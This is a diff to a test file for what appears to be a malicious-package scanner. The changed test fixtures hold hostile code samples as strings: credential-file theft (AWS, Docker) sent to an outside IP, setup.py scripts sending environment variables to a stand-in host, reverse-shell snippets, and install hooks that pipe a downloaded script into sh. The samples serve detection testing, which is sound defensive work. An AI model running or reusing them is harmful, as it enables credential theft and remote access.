@@ -65,18 +65,18 @@ def test_javascript_tokens():
 
 def test_engine_known_answers(spark):
     files = [
-        ("doc", "doc/a.py", '"""This does not call eval() or os.system()."""\n# eval("danger")\ndef safe():\n    return "plain"\n'),
-        ("steal", "steal/core.py", "import os, urllib.request\nd = open(os.path.expanduser('~/.aws/credentials')).read()\nurllib.request.urlopen('http://93.184.216.34/x', data=d.encode())\n"),
-        ("lib", "setup.py", "from setuptools import setup\nexec(open('v.py').read())\nsetup(name='lib')\n"),
-        ("bad", "setup.py", "import os, socket, urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('http://e.example/?h=' + socket.gethostname() + str(dict(os.environ)))\nsetup(name='bad', cmdclass={'install': X})\n"),
+        ("doc", "pkg/a.py", 'def area(w, h):\n    """Never calls exec(), os.popen() or subprocess.call()."""\n    # exec(w)\n    return w * h\n'),
+        ("steal", "pkg/up.py", "import http.client, pathlib\nwith open(str(pathlib.Path.home()) + '/.docker/config.json') as f:\n    body = f.read()\nhttp.client.HTTPSConnection('https://93.184.216.34/', body)\n"),
+        ("lib", "setup.py", "import setuptools\nabout = {}\nexec(compile(open('about.txt').read(), 'about', 'exec'), about)\nsetuptools.setup(**about)\n"),
+        ("bad", "setup.py", "import os, platform, requests\nimport setuptools\nrequests.put('https://e.example', json={'n': platform.node(), 'e': os.environ.copy()})\nsetuptools.setup(name='bad', cmdclass={'install': X})\n"),
         ("hook", "scripts/run.js", "const https = require('https');\nhttps.get('https://e.example/?' + process.env.TOKEN);"),
-        ("shell", "s.py", "import socket, subprocess, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n"),
+        ("shell", "s.py", "import pty, socket\nc = socket.create_connection((h, 4444))\npty.spawn('/bin/bash')\n"),
         ("skip", "node_modules/x/a.py", "eval(x)"),
         ("skip", "site-packages/a.py", "eval(x)"),
         ("skip", ".git/a.py", "eval(x)"),
         ("broken", "a.py", "def (((( not python, no eval(x)"),
     ]
-    hooks = spark.createDataFrame([("hook", "node ./scripts/run.js"), ("curl", "curl -s http://evil.sh | bash")], "package string, command string")
+    hooks = spark.createDataFrame([("hook", "node ./scripts/run.js"), ("curl", "wget -qO- https://e.example/i | sh")], "package string, command string")
     f = spark.createDataFrame(files, "package string, path string, text string")
     got = codes(api.analyse(f, hooks).collect())
     assert got.get("doc") is None and got.get("skip") is None and got.get("broken") is None
